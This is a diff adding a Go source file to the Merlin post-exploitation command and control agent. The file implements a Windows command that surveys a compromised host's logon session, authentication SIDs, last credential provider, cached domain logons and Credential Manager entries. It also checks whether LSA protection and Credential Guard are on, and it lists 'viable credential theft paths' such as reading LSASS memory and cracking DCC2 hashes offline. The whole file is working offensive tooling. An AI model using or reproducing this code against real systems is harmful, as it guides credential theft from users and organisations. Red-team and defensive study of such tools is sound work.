@@ -0,0 +1,265 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"encoding/binary"
+	"fmt"
+	"strconv"
+	"strings"
+	"time"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/advapi32"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/secur32"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/pkg/tokens"
+)
+
+// logonTypes are the names of the SECURITY_LOGON_TYPE values
+var logonTypes = map[uint32]string{
+	2:  "Interactive",
+	3:  "Network",
+	4:  "Batch",
+	5:  "Service",
+	7:  "Unlock",
+	8:  "NetworkCleartext",
+	9:  "NewCredentials",
+	10: "RemoteInteractive",
+	11: "CachedInteractive",
+	12: "CachedRemoteInteractive",
+	13: "CachedUnlock",
+}
+
+// credentialProviders are the credential providers LogonUI records as the last one used to log on
+var credentialProviders = map[string]string{
+	"{60b78e88-ead8-445c-9cfd-0b87f74ea6cd}": "password",
+	"{d6886603-9d2f-4eb2-b667-1971041fa96b}": "Windows Hello PIN",
+	"{cb82ea12-9f71-446d-89e1-8d0924e1256e}": "PIN (legacy)",
+	"{bec09223-b018-416d-a0ac-523971b639f5}": "Windows Hello biometrics",
+	"{8af662bf-65a0-4d0a-a540-a338a999d36f}": "Windows Hello face",
+	"{8fd7e19c-3bf7-489b-a72c-846ab3678c96}": "smartcard",
+	"{f8a1793b-7873-4046-b2a7-1f318747f427}": "FIDO security key",
+}
+
+// authenticationSIDs are the token group SIDs that record how the logon was authenticated
+var authenticationSIDs = map[string]string{
+	"S-1-18-1":    "authentication authority asserted identity",
+	"S-1-18-2":    "service asserted identity",
+	"S-1-18-3":    "fresh public key identity",
+	"S-1-18-4":    "key trust identity (Windows Hello for Business)",
+	"S-1-18-5":    "key property MFA",
+	"S-1-18-6":    "key property attestation",
+	"S-1-5-65-1":  "this organization certificate (smartcard or certificate logon)",
+	"S-1-5-64-10": "NTLM authentication",
+	"S-1-5-64-14": "SChannel authentication",
+	"S-1-5-64-21": "Digest authentication",
+}
+
+// AuthContext reports how the current user authenticated, from the logon session, the token's authentication SIDs,
+// and the last credential provider LogonUI used, along with the cached domain logons, the Credential Manager vault,
+// and whether LSA protection and Credential Guard are enabled, so the viable credential theft paths are known before
+// any are attempted. A previously stolen or created token is reported instead of the process token if there is one
+// authcontext
+func AuthContext(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering AuthContext() with %+v", cmd))
+	}
+	var findings []FindingRecord
+	add := func(category, name, value string) {
+		findings = append(findings, FindingRecord{Category: category, Name: name, Value: value})
+	}
+
+	token := tokens.Token
+	if token == 0 {
+		if err := windows.OpenProcessToken(windows.CurrentProcess(), windows.TOKEN_QUERY, &token); err != nil {
+			results.Stderr = fmt.Sprintf("there was an error calling windows.OpenProcessToken(): %s", err)
+			return
+		}
+		defer token.Close() // #nosec G307 the token is only queried
+	}
+
+	// Logon session
+	var session secur32.LogonSession
+	stats, err := tokens.GetTokenStats(token)
+	if err == nil {
+		session, err = secur32.LsaGetLogonSessionData(stats.AuthenticationId)
+	}
+	if err != nil {
+		results.Stderr += fmt.Sprintf("%s\n", err)
+	} else {
+		add("logon", "User", session.LogonDomain+`\`+session.UserName)
+		kind := logonTypes[session.LogonType]
+		if kind == "" {
+			kind = strconv.Itoa(int(session.LogonType))
+		}
+		add("logon", "Logon Type", kind)
+		add("logon", "Authentication Package", session.AuthenticationPackage)
+		add("logon", "Logon Server", session.LogonServer)
+		if session.Upn != "" {
+			add("logon", "UPN", session.Upn)
+		}
+		add("logon", "Session", strconv.Itoa(int(session.Session)))
+		if !session.LogonTime.IsZero() {
+			add("logon", "Logon Time", session.LogonTime.UTC().Format(time.RFC3339))
+		}
+	}
+
+	// Token authentication SIDs
+	var methods []string
+	if groups, err := token.GetTokenGroups(); err == nil {
+		for _, group := range groups.AllGroups() {
+			if name, ok := authenticationSIDs[group.Sid.String()]; ok {
+				add("token", group.Sid.String(), name)
+				methods = append(methods, group.Sid.String())
+			}
+		}
+	}
+
+	// Last credential provider LogonUI used
+	var provider string
+	if key, err := openKey(registry.LOCAL_MACHINE, `SOFTWARE\Microsoft\Windows\CurrentVersion\Authentication\LogonUI`, registry.QUERY_VALUE); err == nil {
+		clsid, _, _ := key.GetStringValue("LastLoggedOnProvider")
+		user, _, _ := key.GetStringValue("LastLoggedOnSAMUser")
+		_ = key.Close()
+		if clsid != "" {
+			provider = credentialProviders[strings.ToLower(clsid)]
+			if provider == "" {
+				provider = "unknown"
+			}
+			add("provider", "Last Logon Provider", fmt.Sprintf("%s %s", provider, clsid))
+		}
+		if user != "" {
+			add("provider", "Last Logon User", user)
+		}
+	}
+
+	// Cached domain logons
+	cached := -1
+	if key, err := openKey(registry.LOCAL_MACHINE, `SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, registry.QUERY_VALUE); err == nil {
+		if count, _, err := key.GetStringValue("CachedLogonsCount"); err == nil {
+			add("cache", "CachedLogonsCount", count)
+		}
+		_ = key.Close()
+	}
+	// The cache is only readable as SYSTEM or with SeBackupPrivilege
+	if key, err := openKey(registry.LOCAL_MACHINE, `SECURITY\Cache`, registry.QUERY_VALUE); err == nil {
+		cached = 0
+		names, _ := key.ReadValueNames(0)
+		for _, name := range names {
+			if !strings.HasPrefix(name, "NL$") || name == "NL$Control" {
+				continue
+			}
+			// An unused entry has a user name length of 0
+			if data, _, err := key.GetBinaryValue(name); err == nil && len(data) > 2 && binary.LittleEndian.Uint16(data) != 0 {
+				cached++
+			}
+		}
+		_ = key.Close()
+		add("cache", "Cached Domain Logons (DCC2)", strconv.Itoa(cached))
+	} else {
+		add("cache", "Cached Domain Logons (DCC2)", "unknown, HKLM\\SECURITY\\Cache requires SYSTEM or SeBackupPrivilege")
+	}
+
+	// Credential Manager
+	if credentials, err := advapi32.CredEnumerate(); err != nil {
+		results.Stderr += fmt.Sprintf("%s\n", err)
+	} else {
+		// CRED_TYPE_GENERIC 1, CRED_TYPE_DOMAIN_PASSWORD 2, CRED_TYPE_DOMAIN_CERTIFICATE 3
+		credentialTypes := map[uint32]string{1: "generic", 2: "domain password", 3: "domain certificate", 4: "domain visible password"}
+		add("vault", "Credential Manager Entries", strconv.Itoa(len(credentials)))
+		for _, c := range credentials {
+			add("vault", windows.UTF16PtrToString(c.TargetName), fmt.Sprintf("%s %s", credentialTypes[c.Type], windows.UTF16PtrToString(c.UserName)))
+		}
+	}
+
+	// LSA protection
+	lsa := lsaProtection()
+	add("lsa", "RunAsPPL", configuredString(lsa.RunAsPPL))
+	if lsa.ProtectionError != nil {
+		add("lsa", "LSASS Protection", lsa.ProtectionError.Error())
+	} else {
+		add("lsa", "LSASS Protection", fmt.Sprintf("%s (PID %d)", protectionString(lsa.Protection), lsa.PID))
+	}
+	add("lsa", "Credential Guard Configured", configuredString(lsa.LsaCfgFlags))
+	add("lsa", "Credential Guard Running", strconv.FormatBool(lsa.CredentialGuard))
+
+	// Viable credential theft paths
+	switch {
+	case lsa.Protected():
+		add("viability", "LSASS memory", "blocked by LSA protection, a handle duplicated from another process or a driver is required")
+	case lsa.ProtectionError != nil:
+		add("viability", "LSASS memory", "unknown, the LSASS protection could not be determined")
+	default:
+		add("viability", "LSASS memory", "readable with SeDebugPrivilege")
+	}
+	if lsa.CredentialGuard {
+		add("viability", "NTLM hashes and Kerberos TGTs", "isolated by Credential Guard in LsaIso.exe, use Kerberos tickets and tokens instead")
+	}
+	switch {
+	case provider == "password" && !containsString(methods, "S-1-18-4") && !containsString(methods, "S-1-5-65-1"):
+		add("viability", "Logon credential", "password, reusable if it can be recovered")
+	case provider != "" && provider != "unknown":
+		add("viability", "Logon credential", fmt.Sprintf("%s, the user did not type a reusable password", provider))
+	}
+	if session.LogonType == 11 || session.LogonType == 12 || session.LogonType == 13 {
+		add("viability", "Domain controller", "the logon was cached, the domain was not reachable when the user logged on")
+	}
+	if cached > 0 {
+		add("viability", "Cached domain logons", fmt.Sprintf("%d DCC2 hashes can be cracked offline", cached))
+	}
+
+	results.Stdout = findingsText(findings)
+	structured = newStructured("authcontext", findings)
+	return
+}
+
+// configuredString describes a RunAsPPL or LsaCfgFlags registry value
+func configuredString(value uint64) string {
+	switch value {
+	case 0:
+		return "not configured"
+	case 1:
+		return "enabled with UEFI lock"
+	case 2:
+		return "enabled without UEFI lock"
+	default:
+		return strconv.FormatUint(value, 10)
+	}
+}
+
+// containsString returns true if the slice contains the string
+func containsString(list []string, s string) bool {
+	for _, item := range list {
+		if item == s {
+			return true
+		}
+	}
+	return false
+}